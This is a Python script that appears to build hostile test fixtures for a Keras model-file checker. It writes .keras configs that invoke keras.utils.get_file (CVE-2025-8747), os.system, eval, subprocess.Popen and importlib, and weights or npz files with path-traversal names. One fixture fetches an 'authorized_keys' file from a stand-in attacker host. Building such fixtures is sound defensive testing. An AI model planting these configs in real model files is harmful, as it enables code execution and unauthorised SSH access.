"""Builds `tests/hostile/round2/`: files the tools must report or refuse, and
`round2/manifest.json` saying what each must give. Run with the test environment
(`.venv/bin/python tests/hostile/make_hostile_py.py`); the files are committed, so the tests
do not depend on this script's run.

- `config_*.keras`: the small model of `make_hostile.py`, its config naming code that Keras
  refuses or that lies outside Keras (CVE-2025-8747's `keras.utils.get_file` as a layer that
  a functional model would call); `kerasave verify` must report each as a problem.
  `config_custom_object.keras` names a custom class: only a warning.
- `convert_*.weights.h5`, `convert_*.npz`: tensor paths that would make npz member names
  leave the directory they are unzipped to (an HDF5 group `..` holding a dataset `..`).

What is large or cannot be committed is made at test time by the functions here:
`many_shards` (a sharded set of thousands of shards).
"""

from __future__ import annotations

import io
import json
import os
import sys
import zipfile

os.environ.setdefault("KERAS_BACKEND", "jax")

import numpy as np  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
ROUND2 = os.path.join(HERE, "round2")


# --- made at test time ----------------------------------------------------------------------


def many_shards(directory, dense, spanning, base="many"):
    """Writes a sharded weights set of one tensor per shard, `2 * dense + spanning` shards,
    with h5py, and returns the path of its `.weights.json`.

    The model it fits (`many_shards_model`) has `dense` Dense(1) layers (kernel and
    bias: each layer's group spans two shards) and a layer `span` of
    `spanning` variables, each in a shard of its own (its group spans them all). Each
    tensor holds its shard's index.
    """
    import h5py

    # Keras names a functional model's layers in its weights by class: dense, dense_1, ...
    groups = [(f"layers/dense{f'_{i}' if i else ''}/vars", [(1, 1), (1,)]) for i in range(dense)]
    groups.append(("layers/span/vars", [(1,)] * spanning))
    weight_map = {}
    index = 0
    for group, shapes in groups:
        names = []
        for key, shape in enumerate(shapes):
            name = f"{base}_{index:05}.weights.h5"
            with h5py.File(os.path.join(directory, name), "w") as f:
                f.create_dataset(f"{group}/{key}", data=np.full(shape, index, "float32"))
            names.append(name)
            index += 1
        weight_map[f"/{group}"] = names
    path = os.path.join(directory, f"{base}.weights.json")
    with open(path, "w") as f:
        json.dump({"metadata": {"total_size": index * 4}, "weight_map": weight_map}, f)
    return path


MANY_SHARDS_MODEL = """
import keras

class Span(keras.layers.Layer):
    def __init__(self, n, **kwargs):
        super().__init__(**kwargs)
        self.n = n

    def build(self, shape):
        for i in range(self.n):
            self.add_weight(shape=(1,), initializer="zeros", name=f"w{i}")

    def call(self, x):
        return x


def many_shards_model(dense, spanning):
    x = keras.Input((1,))
    outs = [keras.layers.Dense(1)(x) for i in range(dense)]
    outs.append(Span(spanning, name="span")(x))
    return keras.Model(x, keras.layers.Concatenate()(outs))
"""


# --- committed files ------------------------------------------------------------------------


def base_members():
    """The members of a small functional model's `.keras` file, saved by upstream Keras."""
    import keras
    from keras.src.saving import saving_lib

    keras.utils.set_random_seed(0)
    x = keras.Input((3,), name="x")
    model = keras.Model(x, keras.layers.Dense(2, name="dense")(x), name="victim")
    buf = io.BytesIO()
    saving_lib.save_model(model, buf)
    with zipfile.ZipFile(buf) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def write_keras(name, members):
    with zipfile.ZipFile(os.path.join(ROUND2, name), "w") as zf:
        for member, data in members.items():
            zf.writestr(member, data)


def with_activation(members, activation):
    """`members` with the Dense layer's activation replaced by `activation`."""
    cfg = json.loads(members["config.json"])
    for layer in cfg["config"]["layers"]:
        if layer["class_name"] == "Dense":
            layer["config"]["activation"] = activation
    return {**members, "config.json": json.dumps(cfg).encode()}


def with_layer(members, layer):
    """`members` with `layer` (a config entry) called on the model's output."""
    cfg = json.loads(members["config.json"])
    inner = cfg["config"]
    inner["layers"].append(layer)
    inner["output_layers"] = [[layer["name"], 0, 0]]
    return {**members, "config.json": json.dumps(cfg).encode()}


def function(module, name):
    """A config entry naming the function `module.name`, as Keras writes one."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def calling(module, name, kwargs, layer_name="evil"):
    """A layer entry naming `module.name`, which a functional model calls with `kwargs`."""
    return {
        "module": module,
        "class_name": name,
        "config": {},
        "registered_name": None,
        "name": layer_name,
        "inbound_nodes": [{"args": [], "kwargs": kwargs}],
    }


def write_h5(name, datasets):
    """A weights file of {path: array}."""
    import h5py

    with h5py.File(os.path.join(ROUND2, name), "w") as f:
        for path, array in datasets.items():
            f.create_dataset(path, data=array)


def write_npz(name, members):
    """An npz file of {member name: array}, the names as given."""
    with zipfile.ZipFile(os.path.join(ROUND2, name), "w") as zf:
        for member, array in members.items():
            buf = io.BytesIO()
            np.lib.format.write_array(buf, array, allow_pickle=isinstance(array, dict))
            zf.writestr(member, buf.getvalue())


def _npy_dict(value):
    """A `.npy` object array holding the dict `value`: a Keras npz store."""
    arr = np.empty((), dtype=object)
    arr[()] = value
    buf = io.BytesIO()
    np.lib.format.write_array(buf, arr, allow_pickle=True)
    return buf.getvalue()


def main():
    sys.modules.setdefault("tensorflow", None)
    os.makedirs(ROUND2, exist_ok=True)
    manifest = {}
    m = base_members()

    def config_case(name, members, problem, load_error):
        write_keras(name, members)
        manifest[name] = {"verify": problem, "load": load_error}

    # CVE-2025-8747: `keras.utils.get_file` as a layer, which the functional model calls
    # with the config's arguments (it would download a file of the attacker's to a place
    # of the attacker's). Keras 3.11 and later refuse it; verify reported the file ok.
    fetch = {
        "fname": "authorized_keys",
        "origin": "https://attacker.invalid/key",
        "cache_dir": "/tmp/kerasave-hostile-ssh",
        "cache_subdir": "",
    }
    config_case(
        "config_get_file_layer.keras",
        with_layer(m, calling("keras.utils", "get_file", fetch)),
        "keras.utils.get_file",
        "ValueError",
    )
    config_case(
        "config_get_file_function.keras",
        with_activation(m, function("keras.utils", "get_file")),
        "keras.utils.get_file",
        "TypeError",  # the functional model's, wrapping the ValueError of its layer
    )
    # The same function by its module inside Keras: Keras takes only classes from there.
    config_case(
        "config_keras_internal_function.keras",
        with_activation(m, function("keras.src.utils.file_utils", "get_file")),
        "keras.src.utils.file_utils.get_file",
        "TypeError",
    )
    # An exported Keras function that Keras's list misses, but no model uses: a dataset
    # loader, which downloads to the path the config gives. Not loaded by the tests (it
    # would reach the network); verify must report it.
    config_case(
        "config_keras_dataset_layer.keras",
        with_layer(m, calling("keras.datasets.mnist", "load_data", {"path": "/tmp/x"})),
        "keras.datasets.mnist.load_data",
        None,
    )
    config_case(
        "config_os_system_function.keras",
        with_activation(m, function("os", "system")),
        "os.system",
        "TypeError",
    )
    config_case(
        "config_builtin_eval.keras",
        with_activation(m, function("builtins", "eval")),
        "builtins.eval",
        "TypeError",
    )
    config_case(
        "config_subprocess_layer.keras",
        with_layer(m, calling("subprocess", "Popen", {"args": ["true"]})),
        "subprocess.Popen",
        "TypeError",
    )
    config_case(
        "config_importlib_function.keras",
        with_activation(m, function("importlib", "import_module")),
        "importlib.import_module",
        "TypeError",
    )
    config_case(
        "config_numpy_function.keras",
        with_activation(m, function("numpy", "load")),
        "numpy.load",
        "TypeError",
    )
    # A custom class: Keras loads it only from `custom_objects`; a warning, not a problem.
    custom = with_layer(
        m,
        {
            "module": "my_package.layers",
            "class_name": "Scale",
            "config": {"name": "scale", "factor": 2.0},
            "registered_name": "my_package>Scale",
            "name": "scale",
            "inbound_nodes": [{"args": [], "kwargs": {}}],
        },
    )
    config_case("config_custom_object.keras", custom, None, "TypeError")

    # Tensor paths that are no safe npz member names.
    x = np.arange(3, dtype="float32")

    def convert_case(name, writer, members, path):
        writer(name, members)
        manifest[name] = {"convert_npz": path}

    convert_case("convert_dotdot.weights.h5", write_h5, {"../..": x}, "../..")
    convert_case("convert_backslash.weights.h5", write_h5, {"vars/a\\b": x}, "vars/a\\b")
    convert_case("convert_absolute.npz", write_npz, {"/abs.npy": x}, "/abs")
    convert_case("convert_empty_component.npz", write_npz, {"a//b.npy": x}, "a//b")
    convert_case("convert_dot_component.npz", write_npz, {"a/./b.npy": x}, "a/./b")
    convert_case("convert_empty_name.npz", write_npz, {".npy": x}, "")
    # A Keras npz store `layers/dense` (key `0`) beside a plain member of the same path.
    with zipfile.ZipFile(os.path.join(ROUND2, "convert_duplicate.npz"), "w") as zf:
        zf.writestr("layers/dense.npy", _npy_dict({"0": x}))
        buf = io.BytesIO()
        np.lib.format.write_array(buf, x + 1)
        zf.writestr("layers/dense/0.npy", buf.getvalue())
    manifest["convert_duplicate.npz"] = {"convert_npz": "layers/dense/0", "duplicate": True}

    with open(os.path.join(ROUND2, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
        f.write("\n")


if __name__ == "__main__":
    main()
